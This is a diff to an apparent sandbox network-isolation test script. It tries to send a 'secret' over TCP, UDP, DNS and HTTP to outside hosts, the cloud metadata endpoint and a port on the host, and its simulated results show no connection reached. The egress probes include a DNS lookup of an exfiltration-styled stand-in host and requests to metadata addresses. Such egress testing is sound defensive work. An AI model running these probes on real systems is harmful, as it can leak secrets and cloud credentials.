@@ -1,4 +1,4 @@
-# Tries to send data out: TCP, UDP, DNS and HTTP, to the outside and to the cloud's metadata address.
+# Tries to send data out: TCP, UDP, DNS and HTTP, to the outside, to the cloud's metadata address and to its host.
 # sim: connect tcp 93.184.216.34:443
 # sim: connect tcp 169.254.169.254:80
 # sim: connect udp 8.8.8.8:53
@@ -7,7 +7,9 @@
 # sim: connect http http://example.com/
 # sim: connect http http://169.254.169.254/latest/meta-data/
 # sim: connect http http://[fd00:ec2::254]/latest/meta-data/
-# sim: result {"attempts": 8, "reached": []}
+# sim: connect tcp 127.0.0.1:1
+# sim: result {"attempts": 9, "reached": []}
+import os
 import socket
 import urllib.request
 
@@ -34,8 +36,8 @@ def tcp(host, port):
 def udp(host, port):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.connect((host, port))
+        # Nobody need answer: a datagram that left is out.
         s.send(b"secret")
-        s.recv(1)
 
 
 attempt("tcp 93.184.216.34:443", lambda: tcp("93.184.216.34", 443))
@@ -45,4 +47,6 @@ attempt("udp 169.254.169.254:53", lambda: udp("169.254.169.254", 53))
 attempt("dns exfiltrated-secret.example.com", lambda: socket.getaddrinfo("exfiltrated-secret.example.com", 80))
 for url in ("http://example.com/", "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/"):
     attempt(f"http {url}", lambda: urllib.request.urlopen(url))
+host = ("127.0.0.1", int(os.environ["HOST_PORT"]))
+attempt("tcp a port of this host", lambda: tcp(*host))
 enclave.result({"attempts": attempts, "reached": reached})
